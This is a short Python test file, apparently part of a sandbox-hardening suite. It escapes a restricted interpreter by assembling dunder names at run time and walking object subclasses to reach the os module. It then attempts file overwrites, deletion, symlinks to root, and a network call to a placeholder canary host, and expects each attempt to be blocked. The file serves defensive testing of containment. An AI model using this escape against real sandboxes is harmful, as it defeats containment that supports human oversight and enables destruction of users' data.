# attack: getattr with names built at run time ('__cla' + 'ss__')
# expect: contained:python
# unguarded: python
def harm(os):
    """What an escape would do: every step must be stopped by a wall below."""
    steps = [
        lambda: os.system("echo pwned >> /input/data.csv; echo pwned > /input/new.txt; "
                          "echo pwned > /tmp/escaped; "
                          "python3 -c \"import socket; socket.create_connection(('CANARY_HOST', CANARY_PORT), 2)\""),
        lambda: os.remove("/input/data.csv"),
        lambda: os.rename("/input/book.xlsx", "/input/moved.xlsx"),
        lambda: os.symlink("/input/data.csv", "/output/link.csv"),
        lambda: os.symlink("/", "/output/root"),
        lambda: os.mkfifo("/output/fifo"),
        lambda: os.open("/input/data.csv", os.O_WRONLY | os.O_TRUNC),
    ]
    for step in steps:
        try:
            step()
        except Exception as exc:
            print("blocked:", repr(exc)[:120])

u = "_" * 2
obj = getattr((), u + "cla" + "ss" + u)
base = getattr(obj, u + "bases" + u)[0]
for cls in getattr(base, u + "subclasses" + u)():
    if getattr(cls, u + "name" + u) == "_wrap_close":
        init = getattr(cls, u + "init" + u)
        harm(getattr(init, u + "globals" + u)["sys"].modules["os"])
        break
